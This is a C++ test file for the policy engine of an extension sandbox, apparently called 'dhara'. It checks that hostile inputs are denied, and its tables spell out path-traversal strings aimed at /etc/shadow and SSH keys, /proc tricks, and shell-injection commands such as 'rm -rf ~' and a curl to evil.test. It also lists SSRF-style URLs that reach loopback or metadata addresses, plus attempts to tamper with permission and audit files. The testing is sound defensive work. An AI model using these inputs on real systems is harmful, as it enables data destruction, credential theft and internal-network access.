// Hostile inputs against decide() on a compiled snapshot (issue 8, "Hostile inputs"): the
// known failures of this field as tables — `..` escapes, /proc magic links, dhara's own state
// files, shell strings where argv is expected, URL userinfo and IP literals in every spelling,
// empty allow-lists, an extension borrowing another's approvals, and 100 000 rules. Every row
// names its input, the verdict and a piece of the reason. The filesystem and DNS rows live in
// tests/io/hostile_paths_test.cpp (real resolver, real host operations).
#include <catch2/catch.hpp>

#include <map>
#include <string>
#include <string_view>
#include <vector>

#include "policy/snapshot.hpp"
#include "support/policy_fixture.hpp"

using namespace dhara::policy;
using dhara::testing::policy_fixture;

namespace {

// One row of a table: who asks for what, and what must come back.
struct row {
  std::string_view ext;
  capability cap;
  subject_kind kind;
  std::string_view subject;
  verdict_kind expect;
  std::string_view reason_has;  // a piece of the reason ("" for allows)
};

constexpr auto allow = verdict_kind::allow;
constexpr auto deny = verdict_kind::deny;
constexpr auto cap_read = capability::filesystem_read;
constexpr auto cap_write = capability::filesystem_write;
constexpr auto fetch = capability::network_fetch;
constexpr auto spawn = capability::process_spawn;
constexpr auto path = subject_kind::path;
constexpr auto url = subject_kind::url;
constexpr auto cmd = subject_kind::command_string;

// Finds executables from a fixed table, so command rows do not depend on the machine (the io
// suite runs the real PATH locator).
class table_locator final : public executable_locator {
 public:
  result<std::string> locate(std::string_view argv0) const override {
    static const std::map<std::string, std::string, std::less<>> where = {
        {"git", "/usr/bin/git"},        {"/usr/bin/git", "/usr/bin/git"}, {"./git", "/home/u/proj/git"},
        {"sh", "/usr/bin/sh"},          {"bash", "/usr/bin/bash"},        {"/tmp/git", "/tmp/git"},
        {"curl", "/usr/bin/curl"},      {"env", "/usr/bin/env"}};
    auto it = where.find(argv0);
    if (it == where.end()) return make_error(errc::not_found, "'" + std::string(argv0) + "' is not on PATH");
    return it->second;
  }
};

void run_rows(const policy_snapshot& snap, const std::vector<row>& rows, const check_environment& env = {}) {
  for (const row& r : rows) {
    INFO("extension " << r.ext << ", " << to_string(r.cap) << ", subject '" << r.subject << "'");
    decision d = decide(snap, {r.ext, r.cap, r.kind, r.subject, {}}, env);
    INFO("reason: " << d.reason);
    CHECK(d.verdict == r.expect);
    if (r.expect == verdict_kind::deny) {
      CHECK_FALSE(d.reason.empty());
      CHECK(d.reason.find(r.reason_has) != std::string::npos);
    }
  }
}

// The fixture with shell-tools' process:spawn approved, so command rows reach the rules.
policy_fixture with_spawn_approved(security_level level = security_level::standard) {
  policy_fixture f{level};
  f.perms[2].capabilities = {{"process:spawn", permission_state::approved}};
  return f;
}

}  // namespace

TEST_CASE("hostile paths: dot-dot, slashes and tilde tricks are normalized before the rules", "[policy][hostile][path]") {
  auto snap = policy_fixture{}.compile();
  REQUIRE(snap);
  // fs-tools has filesystem:* approved: only the path rules stand in the way.
  run_rows(*snap, {
      {"fs-tools", cap_read, path, "../../../etc/shadow", deny, "built-in: /etc/shadow"},
      {"fs-tools", cap_read, path, "/home/u/proj/../../../../../etc/shadow", deny, "built-in: /etc/shadow"},
      {"fs-tools", cap_read, path, "src/../../../u/.ssh/id_rsa", deny, "built-in: ~/.ssh/"},
      {"fs-tools", cap_read, path, "/home/u/proj/./secrets//key", deny, "/home/u/proj/secrets"},
      {"fs-tools", cap_read, path, "/home/u/proj/secrets/.", deny, "/home/u/proj/secrets"},
      {"fs-tools", cap_read, path, "secrets/../secrets/key", deny, "/home/u/proj/secrets"},
      {"fs-tools", cap_write, path, "/home/u/proj/.git/hooks/../hooks/pre-commit", deny, "/home/u/proj/.git/hooks"},
      {"fs-tools", cap_read, path, "~/.aws/credentials", deny, "~/.aws/"},
      {"fs-tools", cap_read, path, "~root/.ssh/id_rsa", deny, "not '~user'"},
      {"fs-tools", cap_read, path, "/home/u/project-evil/x", deny, "outside the allowed paths"},  // not under /home/u/proj
      {"fs-tools", cap_read, path, "/home/u/proj/../proj-evil/x", deny, "outside the allowed paths"},
      {"fs-tools", cap_read, path, std::string_view("src/a\0/../../etc/shadow", 23), deny, "NUL byte"},
      {"fs-tools", cap_read, path, "", deny, "empty"},
      {"fs-tools", cap_read, path, "/etc/passwd", deny, "outside the allowed paths"},
      // Controls: the same extension may read inside the project.
      {"fs-tools", cap_read, path, "src/../README.md", allow, ""},
      {"fs-tools", cap_write, path, "/home/u/proj/secretsX/ok", allow, ""},  // segment boundary: not under secrets
  });
  std::string longest(max_path_bytes + 1, 'a');
  longest.front() = '/';
  decision d = decide(*snap, {"fs-tools", cap_read, path, longest, {}});
  CHECK(d.verdict == deny);
  CHECK(d.reason.find("longer than") != std::string::npos);
}

TEST_CASE("hostile paths: /proc magic links and dhara's state stay denied even when everything is allowed", "[policy][hostile][path]") {
  policy_fixture f;
  f.config.allowed_paths = {"/"};  // the user allowed the whole filesystem
  f.config.protected_extension_dirs = {"/home/u/.dhara/extensions", "/opt/dhara-ext"};
  auto snap = f.compile();
  REQUIRE(snap);
  run_rows(*snap, {
      {"fs-tools", cap_read, path, "/proc/self/root/etc/passwd", deny, "built-in: /proc/*/root"},
      {"fs-tools", cap_read, path, "/proc/self/root", deny, "built-in: /proc/*/root"},
      {"fs-tools", cap_read, path, "/proc/thread-self/root/home/u/proj/secrets/k", deny, "built-in: /proc/*/root"},
      {"fs-tools", cap_read, path, "/proc/1/root/etc/shadow", deny, "built-in: /proc/*/root"},
      {"fs-tools", cap_read, path, "/proc/self/environ", deny, "built-in: /proc/*/environ"},
      {"fs-tools", cap_read, path, "/proc/1/environ", deny, "built-in: /proc/*/environ"},
      {"fs-tools", cap_read, path, "/proc/self/task/4242/environ", deny, "built-in: /proc/*/environ"},
      {"fs-tools", cap_read, path, "/proc/self/cwd/secrets/k", deny, "built-in: /proc/*/cwd"},
      {"fs-tools", cap_read, path, "/proc/self/exe", deny, "built-in: /proc/*/exe"},
      {"fs-tools", cap_read, path, "/proc/self/mem", deny, "built-in: /proc/*/mem"},
      {"fs-tools", cap_read, path, "/proc/self/fd/3", deny, "built-in: /proc/*/fd"},
      {"fs-tools", cap_read, path, "/proc/self/map_files/7f00-7f01", deny, "built-in: /proc/*/map_files"},
      {"fs-tools", cap_read, path, "/etc/shadow", deny, "built-in: /etc/shadow"},
      {"fs-tools", cap_read, path, "/etc/gshadow", deny, "built-in: /etc/gshadow"},
      // An extension approving itself or rewriting the audit trail through a file write.
      {"fs-tools", cap_write, path, "/home/u/.dhara/permissions.json", deny, "built-in: $DHARA_HOME/permissions.json*"},
      {"fs-tools", cap_write, path, "~/.dhara/permissions.json.lock", deny, "built-in: $DHARA_HOME/permissions.json*"},
      {"fs-tools", cap_write, path, "/home/u/.dhara/permissions.json.tmp-1234", deny, "built-in: $DHARA_HOME/permissions.json*"},
      {"fs-tools", cap_write, path, "/home/u/.dhara/audit.jsonl", deny, "built-in: $DHARA_HOME/audit*"},
      {"fs-tools", cap_write, path, "/home/u/.dhara/audit.3.jsonl", deny, "built-in: $DHARA_HOME/audit*"},
      {"fs-tools", cap_write, path, "/home/u/.dhara/audit.lock", deny, "built-in: $DHARA_HOME/audit*"},
      {"fs-tools", cap_read, path, "/home/u/.dhara/config.json", deny, "built-in: $DHARA_HOME/config.json*"},
      {"fs-tools", cap_write, path, "/home/u/.dhara/logs/web-tools.stderr.log", deny, "built-in: $DHARA_HOME/logs"},
      {"fs-tools", cap_write, path, "/home/u/proj/.dhara/config.json", deny, "built-in: <project>/.dhara/config.json"},
      {"fs-tools", cap_write, path, ".dhara/config.json", deny, "built-in: <project>/.dhara/config.json"},
      {"fs-tools", cap_write, path, "/home/u/.dhara/extensions/../permissions.json", deny, "built-in: $DHARA_HOME/permissions.json*"},
      // An extension rewriting installed code (another extension's, or its own manifest to
      // claim more) that would then run with the approvals given to the old one.
      {"fs-tools", cap_write, path, "/home/u/.dhara/extensions/web-tools/main.py", deny, "built-in: extensions folder /home/u/.dhara/extensions"},
      {"fs-tools", cap_write, path, "~/.dhara/extensions/fs-tools/manifest.json", deny, "built-in: extensions folder /home/u/.dhara/extensions"},
      {"fs-tools", cap_read, path, "/home/u/.dhara/extensions/web-tools/config.json", deny, "built-in: extensions folder /home/u/.dhara/extensions"},
      {"fs-tools", cap_write, path, "/opt/dhara-ext/other/main.js", deny, "built-in: extensions folder /opt/dhara-ext"},
      // Controls: the rest of the filesystem is allowed, as configured.
      {"fs-tools", cap_read, path, "/proc/self/status", allow, ""},
      {"fs-tools", cap_read, path, "/etc/hosts", allow, ""},
      {"fs-tools", cap_write, path, "/home/u/.dhara/notes.txt", allow, ""},
  });
}

TEST_CASE("hostile paths: yolo still keeps dhara's own state files denied", "[policy][hostile][path]") {
  auto snap = policy_fixture{security_level::yolo}.compile();
  REQUIRE(snap);
  run_rows(*snap, {
      {"ext-8", cap_write, path, "/home/u/.dhara/permissions.json", deny, "permissions.json*"},
      {"ext-8", cap_write, path, "../.dhara/audit.jsonl", deny, "audit*"},
      {"ext-8", cap_write, path, "/home/u/proj/.dhara/config.json", deny, "<project>/.dhara/config.json"},
      {"ext-8", cap_read, path, "/etc/passwd", allow, ""},
  });
}

TEST_CASE("hostile commands: shell strings are refused where argv is expected", "[policy][hostile][command]") {
  auto f = with_spawn_approved();
  auto snap = f.compile();
  REQUIRE(snap);
  table_locator locator;
  check_environment env{nullptr, &locator};
  run_rows(*snap, {
      {"shell-tools", spawn, cmd, "git status; rm -rf ~", deny, "shell metacharacters"},
      {"shell-tools", spawn, cmd, "git log && curl http://evil.test/x", deny, "shell metacharacters"},
      {"shell-tools", spawn, cmd, "git log || sh", deny, "shell metacharacters"},
      {"shell-tools", spawn, cmd, "git $(id)", deny, "shell metacharacters"},
      {"shell-tools", spawn, cmd, "git `id`", deny, "shell metacharacters"},
      {"shell-tools", spawn, cmd, "git status | sh", deny, "shell metacharacters"},
      {"shell-tools", spawn, cmd, "git show > ~/.bashrc", deny, "shell metacharacters"},
      {"shell-tools", spawn, cmd, "git < /etc/shadow", deny, "shell metacharacters"},
      {"shell-tools", spawn, cmd, "git status\nrm -rf ~", deny, "shell metacharacters"},
      {"shell-tools", spawn, cmd, "git ${IFS}x", deny, "shell metacharacters"},
      {"shell-tools", spawn, cmd, "git status &", deny, "shell metacharacters"},
      {"shell-tools", spawn, cmd, "'git' status", deny, "quotes or escapes"},
      {"shell-tools", spawn, cmd, "g\\it status", deny, "quotes or escapes"},
      {"shell-tools", spawn, cmd, "sh -c 'git status'", deny, "not in the extension's process.commands list"},
      {"shell-tools", spawn, cmd, "bash", deny, "not in the extension's process.commands list"},
      {"shell-tools", spawn, cmd, "env git status", deny, "not in the extension's process.commands list"},
      {"shell-tools", spawn, cmd, "./git status", deny, "outside /usr, /bin"},  // a look-alike in the project
      {"shell-tools", spawn, cmd, "/tmp/git status", deny, "outside /usr, /bin"},
      {"shell-tools", spawn, cmd, "   ", deny, "empty"},
      {"shell-tools", spawn, cmd, "git status", allow, ""},
      {"shell-tools", spawn, cmd, "/usr/bin/git status", allow, ""},
  }, env);
}

TEST_CASE("hostile commands: an argv is never read by a shell, and sh needs its own listing", "[policy][hostile][command]") {
  auto f = with_spawn_approved();
  auto snap = f.compile();
  REQUIRE(snap);
  table_locator locator;
  check_environment env{nullptr, &locator};
  auto argv_decision = [&](std::vector<std::string> argv) {
    return decide(*snap, {"shell-tools", spawn, subject_kind::argv, {}, argv}, env);
  };
  // sh/bash are refused unless listed themselves, whatever follows.
  CHECK(argv_decision({"sh", "-c", "git status; id"}).verdict == deny);
  CHECK(argv_decision({"bash", "-c", "git status"}).verdict == deny);
  CHECK(argv_decision({"env", "git"}).verdict == deny);
  CHECK(argv_decision({}).verdict == deny);
  CHECK(argv_decision({""}).verdict == deny);
  // argv[0] holding a whole command line is not a listed basename: it is not found.
  CHECK(argv_decision({"git status; id"}).verdict == deny);
  // Metacharacters in later arguments are plain bytes handed to git by execve: allowed.
  decision d = argv_decision({"git", "log", "--format=$(id);`id`"});
  CHECK(d.verdict == allow);
  CHECK(d.matched_rule == "git");

  // Listed shells are the user's choice: then they pass.
  policy_fixture listed = with_spawn_approved();
  listed.manifests[2].process_commands = std::vector<std::string>{"git", "sh"};
  auto snap2 = listed.compile();
  std::vector<std::string> sh{"sh", "-c", "git status"};
  CHECK(decide(*snap2, {"shell-tools", spawn, subject_kind::argv, {}, sh}, env).verdict == allow);
}

TEST_CASE("hostile urls: userinfo, fragments and look-alike hosts against a domain list", "[policy][hostile][url]") {
  auto snap = policy_fixture{}.compile();
  REQUIRE(snap);
  // web-tools lists api.example.com and *.example.org.
  run_rows(*snap, {
      {"web-tools", fetch, url, "http://api.example.com@evil.test/", deny, "'evil.test' is not in the extension's network.outbound list"},
      {"web-tools", fetch, url, "https://api.example.com:443@evil.test/data", deny, "'evil.test' is not"},
      {"web-tools", fetch, url, "http://user:pw@api.example.com@evil.test/", deny, "'evil.test' is not"},
      {"web-tools", fetch, url, "http://evil.test#@api.example.com/", deny, "'evil.test' is not"},
      {"web-tools", fetch, url, "http://evil.test?@api.example.com/", deny, "'evil.test' is not"},
      {"web-tools", fetch, url, "http://evil.test\\@api.example.com/", deny, "host part"},
      {"web-tools", fetch, url, "http://api.example.com%2f@evil.test/", deny, "host part"},
      {"web-tools", fetch, url, "http://api.example.com evil.test/", deny, "host part"},
      {"web-tools", fetch, url, "http://api.example.com.evil.test/", deny, "is not in the extension's network.outbound list"},
      {"web-tools", fetch, url, "http://evilapi.example.com/", deny, "is not in the extension's network.outbound list"},
      {"web-tools", fetch, url, "http://example.org/", deny, "is not in the extension's network.outbound list"},  // *.x is not x
      {"web-tools", fetch, url, "http://x.example.org.evil.test/", deny, "is not in the extension's network.outbound list"},
      {"web-tools", fetch, url, "http://2130706433/", deny, "127.0.0.1"},  // decimal literal vs a domain list
      {"web-tools", fetch, url, "http://8.8.8.8/", deny, "not in the extension's network.outbound list"},
      {"web-tools", fetch, url, "http://[2606:4700::1111]/", deny, "not in the extension's network.outbound list"},
      {"web-tools", fetch, url, "file:///etc/passwd", deny, "does not use http or https"},
      {"web-tools", fetch, url, "gopher://api.example.com/", deny, "does not use http or https"},
      {"web-tools", fetch, url, "api.example.com/data", deny, "not an absolute http(s) URL"},
      {"web-tools", fetch, url, "http:///", deny, "has no host"},
      {"web-tools", fetch, url, "http://api.example.com:0/", deny, "invalid port"},
      {"web-tools", fetch, url, "http://api.example.com:99999/", deny, "invalid port"},
      // Controls.
      {"web-tools", fetch, url, "https://api.example.com/data", allow, ""},
      {"web-tools", fetch, url, "HTTPS://API.EXAMPLE.COM./data", allow, ""},
      {"web-tools", fetch, url, "https://user@api.example.com/", allow, ""},
      {"web-tools", fetch, url, "https://a.b.example.org/", allow, ""},
  });
}

TEST_CASE("hostile urls: loopback, private and link-local literals in every spelling", "[policy][hostile][url]") {
  auto snap = policy_fixture{}.compile();
  REQUIRE(snap);
  // ext-3 has no domain list: any public host, but no internal address.
  std::vector<row> rows;
  for (std::string_view u : {
           "http://127.0.0.1/", "http://2130706433/", "http://0x7f000001/", "http://0x7f.1/", "http://0X7F.0.0.1/",
           "http://0177.0.0.1/", "http://017700000001/", "http://127.1/", "http://127.0.1/", "http://127.000.000.001/",
           "http://127.0.0.1./", "http://[::1]/", "http://[0:0:0:0:0:0:0:1]/", "http://[::ffff:127.0.0.1]/",
           "http://[::ffff:7f00:1]/", "http://[::127.0.0.1]/", "http://[64:ff9b::7f00:1]/", "http://[2002:7f00:1::]/",
           "http://0/", "http://0.0.0.0/", "http://[::]/", "http://10.0.0.1/", "http://167772161/", "http://192.168.1.1/",
           "http://172.16.0.1/", "http://172.31.255.255/", "http://100.64.0.1/", "http://169.254.169.254/latest/meta-data/",
           "http://0xa9fea9fe/", "http://[::ffff:169.254.169.254]/", "http://[fd00::1]/", "http://[fc00::1]/",
           "http://[fe80::1]/", "http://[fec0::1]/", "http://[ff02::1]/", "http://224.0.0.1/", "http://255.255.255.255/",
           "http://127.0.0.1:22/", "https://[::1]:8443/x"})
    rows.push_back({"ext-3", fetch, url, u, deny, "loopback, private or link-local"});
  for (std::string_view u : {"http://localhost/", "http://LOCALHOST./", "http://foo.localhost/", "http://printer.local/",
                             "http://localhost.localdomain/", "http://ip6-localhost/"})
    rows.push_back({"ext-3", fetch, url, u, deny, "local name"});
  rows.push_back({"ext-3", fetch, url, "http://[fe80::1%25eth0]/", deny, "host part"});  // zone ids
  // Controls: public literals and names pass without a list.
  rows.push_back({"ext-3", fetch, url, "http://8.8.8.8/", allow, ""});
  rows.push_back({"ext-3", fetch, url, "http://134744072/", allow, ""});  // 8.8.8.8 in decimal
  rows.push_back({"ext-3", fetch, url, "http://[2606:4700::1111]/", allow, ""});
  rows.push_back({"ext-3", fetch, url, "http://172.32.0.1/", allow, ""});  // just outside 172.16/12
  rows.push_back({"ext-3", fetch, url, "https://example.net/", allow, ""});
  run_rows(*snap, rows);
}

TEST_CASE("hostile urls: an address listed literally matches every spelling of it, and only it", "[policy][hostile][url]") {
  policy_fixture f;
  f.manifests[3].network_domains = std::vector<std::string>{"127.0.0.1", "localhost"};
  auto snap = f.compile();
  REQUIRE(snap);
  run_rows(*snap, {
      {"ext-3", fetch, url, "http://2130706433:8080/", allow, ""},
      {"ext-3", fetch, url, "http://0x7f.1/", allow, ""},
      {"ext-3", fetch, url, "http://[::ffff:127.0.0.1]/", allow, ""},
      {"ext-3", fetch, url, "http://localhost:3000/", allow, ""},
      {"ext-3", fetch, url, "http://127.0.0.2/", deny, "loopback, private or link-local"},
      {"ext-3", fetch, url, "http://[::1]/", deny, "loopback, private or link-local"},
      {"ext-3", fetch, url, "http://foo.localhost/", deny, "local name"},
  });
}

TEST_CASE("hostile lists: an empty allow-list allows nothing", "[policy][hostile][empty]") {
  policy_fixture f;
  f.config.allowed_paths = {};
  f.manifests[0].network_domains = std::vector<std::string>{};  // network.outbound: []
  f.manifests[2].process_commands = std::vector<std::string>{};  // process.commands: []
  f.perms[2].capabilities = {{"process:spawn", permission_state::approved}};
  auto snap = f.compile();
  REQUIRE(snap);
  table_locator locator;
  run_rows(*snap, {
      {"fs-tools", cap_read, path, "/home/u/proj/src/a.ts", deny, "outside the allowed paths"},
      {"fs-tools", cap_read, path, "src/a.ts", deny, "outside the allowed paths"},
      {"fs-tools", cap_read, path, "/", deny, "outside the allowed paths"},
      {"web-tools", fetch, url, "https://api.example.com/", deny, "the list is empty: no host is allowed"},
      {"web-tools", fetch, url, "https://8.8.8.8/", deny, "not in the extension's network.outbound list"},
      {"shell-tools", spawn, cmd, "git status", deny, "not in the extension's process.commands list"},
  }, {nullptr, &locator});
  // The other extensions keep "no list": the empty list is web-tools' own.
  CHECK(decide(*snap, {"ext-3", fetch, url, "https://example.net/", {}}).allowed());
}

TEST_CASE("hostile identity: an extension cannot borrow the approvals of another folder or another name", "[policy][hostile][identity]") {
  policy_fixture f;
  session_inputs in;
  in.config = f.config;
  in.home = "/home/u";
  in.dhara_home = "/home/u/.dhara";
  in.project_root = "/home/u/proj";
  in.cwd = "/home/u/proj";
  manifest impostor = f.manifests[1];  // named fs-tools, everything approved for the real one
  in.extensions.push_back({impostor, "/home/u/proj/.dhara/extensions/fs-tools"});
  permissions perms;
  perms.entries["fs-tools"] = f.perms[1];  // recorded without a folder: the installed one only
  auto snap = compile_session(in, perms, 1, lexical_resolver{});
  REQUIRE(snap);
  decision d = decide(*snap, {"fs-tools", cap_read, path, "src/a.ts", {}});
  CHECK(d.verdict == deny);
  CHECK(d.reason.find("is not approved") != std::string::npos);

  // A recorded folder must match exactly, with no `..` games.
  perms.entries["fs-tools"].folder = "/home/u/.dhara/extensions/fs-tools";
  in.extensions[0].second = "/home/u/.dhara/extensions/x/../fs-tools";
  auto snap2 = compile_session(in, perms, 2, lexical_resolver{});
  REQUIRE(snap2);
  CHECK(decide(*snap2, {"fs-tools", cap_read, path, "src/a.ts", {}}).verdict == deny);

  // An undeclared capability stays refused even with a wildcard approval on record.
  policy_fixture g;
  g.perms[1].capabilities = {{"secrets:*", permission_state::approved}, {"process:*", permission_state::approved}};
  auto snap3 = g.compile();
  decision secrets = decide(*snap3, {"fs-tools", capability::secrets_env, subject_kind::none, {}, {}});
  CHECK(secrets.verdict == deny);
  CHECK(secrets.reason.find("does not declare secrets:env") != std::string::npos);
}

TEST_CASE("hostile scale: 100000 rules compile and decide correctly", "[policy][hostile][scale]") {
  constexpr int n = 100000;
  policy_fixture f;
  f.config.allowed_paths.clear();
  f.config.denied_paths.clear();
  for (int i = 0; i < n; ++i) {
    f.config.allowed_paths.push_back("/data/allowed/a" + std::to_string(i));
    f.config.denied_paths.push_back("/data/allowed/a" + std::to_string(i) + "/secret");
  }
  f.config.denied_paths.push_back("/data/allowed/**/*.key");  // a glob among them
  std::vector<std::string> domains;
  for (int i = 0; i < n; ++i) domains.push_back("host" + std::to_string(i) + ".example.com");
  domains.push_back("*.wild.example.net");
  f.manifests[0].network_domains = domains;
  auto snap = f.compile();
  REQUIRE(snap);
  CHECK(snap->paths.allowed.size() == static_cast<std::size_t>(n));
  run_rows(*snap, {
      {"fs-tools", cap_read, path, "/data/allowed/a0/x", allow, ""},
      {"fs-tools", cap_read, path, "/data/allowed/a99999/sub/x", allow, ""},
      {"fs-tools", cap_read, path, "/data/allowed/a54321/secret/x", deny, "/data/allowed/a54321/secret"},
      {"fs-tools", cap_read, path, "/data/allowed/a99999/secret", deny, "/data/allowed/a99999/secret"},
      {"fs-tools", cap_read, path, "/data/allowed/a7/deep/id.key", deny, "/data/allowed/**/*.key"},
      {"fs-tools", cap_read, path, "/data/allowed/a100000/x", deny, "outside the allowed paths"},
      {"fs-tools", cap_read, path, "/data/allowed/a5x/x", deny, "outside the allowed paths"},
      {"fs-tools", cap_read, path, "/data/allowed/a12/../../../etc/shadow", deny, "built-in: /etc/shadow"},
      {"fs-tools", cap_read, path, "/proc/self/environ", deny, "built-in: /proc/*/environ"},
      {"web-tools", fetch, url, "https://host0.example.com/", allow, ""},
      {"web-tools", fetch, url, "https://host99999.example.com/", allow, ""},
      {"web-tools", fetch, url, "https://a.wild.example.net/", allow, ""},
      {"web-tools", fetch, url, "https://host100000.example.com/", deny, "not in the extension's network.outbound list"},
      {"web-tools", fetch, url, "https://host1.example.com@evil.test/", deny, "'evil.test' is not"},
      {"web-tools", fetch, url, "http://2130706433/", deny, "loopback"},
  });
}
